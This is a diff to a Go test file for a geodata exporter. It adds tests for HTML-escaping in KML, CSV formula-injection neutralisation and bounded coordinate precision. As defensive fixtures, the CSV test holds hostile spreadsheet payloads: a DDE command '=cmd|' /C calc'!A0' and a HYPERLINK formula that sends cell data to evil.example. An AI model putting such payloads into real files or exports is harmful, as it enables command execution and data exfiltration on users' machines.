@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"encoding/xml"
+	"html"
 	"strings"
 	"testing"
 
@@ -76,8 +77,18 @@ func TestKMLOpensWithEveryPlacemark(t *testing.T) {
 		t.Fatalf("KML document %q with %d placemarks, want \"Test layer\" with 3", d.Name, len(d.Placemarks))
 	}
 	p, l, m := d.Placemarks[0], d.Placemarks[1], d.Placemarks[2]
-	if p.Name != hostile || p.Point == nil || p.Point.Coordinates != "71.55,37.49" {
-		t.Errorf("point placemark = %+v, want the hostile name kept as text and coordinates 71.55,37.49", p)
+	// Google Earth renders names and ExtendedData as HTML too: they must
+	// arrive escaped, and unescape to the text they were.
+	if p.Name != html.EscapeString(hostile) || p.Point == nil || p.Point.Coordinates != "71.55,37.49" {
+		t.Errorf("point placemark = %+v, want the hostile name HTML-escaped and coordinates 71.55,37.49", p)
+	}
+	for _, data := range p.Data {
+		if strings.ContainsAny(data.Value, "<>") || strings.ContainsAny(data.Name, "<>") {
+			t.Errorf("ExtendedData %q = %q carries live markup", data.Name, data.Value)
+		}
+		if data.Name == "name" && html.UnescapeString(data.Value) != hostile {
+			t.Errorf("ExtendedData name = %q, want %q escaped", data.Value, hostile)
+		}
 	}
 	// Google Earth renders descriptions as HTML: markup must arrive escaped.
 	if strings.Contains(p.Description, "<script>") {
@@ -139,5 +150,76 @@ func TestGeoJSONCountsAndVersion(t *testing.T) {
 	}
 	if fc.Type != "FeatureCollection" || len(fc.Features) != 3 || fc.NumberReturned != 3 || fc.NumberMatched != 3 || fc.DataVersion != "abc-7" {
 		t.Errorf("GeoJSON = %+v", fc)
+	}
+}
+
+// TestCSVCellsAreNeverFormulas holds the CSV-injection fix: a cell that
+// begins with =, +, -, @, a tab or a carriage return, header included,
+// comes out with a leading apostrophe so a spreadsheet shows it as text;
+// numbers casmap writes stay numbers.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	src := []any{map[string]any{"title": "=HYPERLINK(\"https://evil.example/?\"&A1)"}}
+	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Version: "v-1", Page: geodata.Page{Features: []geodata.Feature{{
+		ID: "@SUM(1+1)", Geometry: orb.Point{-71.123456789, 37.5},
+		Properties: map[string]any{
+			"=cmd|' /C calc'!A0": "x", "plus": "+1+1", "minus": "-2+3", "at": "@A1", "tab": "\t=1", "cr": "\r=1",
+			"fatalities": -3.0, "plain": "a = b", "sources": src,
+		},
+	}}}}
+	f, _ := format.ByName("csv")
+	var buf bytes.Buffer
+	if err := f.Write(&buf, doc); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatalf("CSV does not parse: %v", err)
+	}
+	header, row := rows[0], rows[1]
+	cell := map[string]string{}
+	for i, name := range header {
+		if name != "" && strings.ContainsRune("=+-@\t\r", rune(name[0])) {
+			t.Errorf("header cell %q would run as a formula", name)
+		}
+		cell[name] = row[i]
+	}
+	for i, v := range row {
+		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && header[i] != "lon" && header[i] != "fatalities" {
+			t.Errorf("column %q: cell %q would run as a formula", header[i], v)
+		}
+	}
+	for name, want := range map[string]string{
+		"id": "'@SUM(1+1)", "plus": "'+1+1", "minus": "'-2+3", "at": "'@A1", "tab": "'\t=1", "cr": "'\r=1",
+		"'=cmd|' /C calc'!A0": "x", "plain": "a = b", "fatalities": "-3", "lon": "-71.1234568",
+		"sources": `'=HYPERLINK("https://evil.example/?"&A1)`,
+	} {
+		if got, ok := cell[name]; !ok || got != want {
+			t.Errorf("cell %q = %q, want %q", name, got, want)
+		}
+	}
+}
+
+// TestCoordinatesHaveBoundedPrecision: CSV and KML write at most seven
+// decimal places, whatever the stored value.
+func TestCoordinatesHaveBoundedPrecision(t *testing.T) {
+	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Page: geodata.Page{Features: []geodata.Feature{
+		{ID: "p", Geometry: orb.Point{69.123456789012345, 34.1}, Properties: map[string]any{}},
+		{ID: "l", Geometry: orb.LineString{{69.000000049, 34.99999999999}, {70, 35}}, Properties: map[string]any{}},
+	}}}
+	for _, name := range []string{"csv", "kml"} {
+		f, _ := format.ByName(name)
+		var buf bytes.Buffer
+		if err := f.Write(&buf, doc); err != nil {
+			t.Fatal(err)
+		}
+		out := buf.String()
+		for _, long := range []string{"69.123456789", "69.000000049", "34.99999999999"} {
+			if strings.Contains(out, long) {
+				t.Errorf("%s holds the coordinate %s at full precision:\n%s", name, long, out)
+			}
+		}
+		if !strings.Contains(out, "69.1234568") {
+			t.Errorf("%s lacks 69.1234568 (seven places):\n%s", name, out)
+		}
 	}
 }
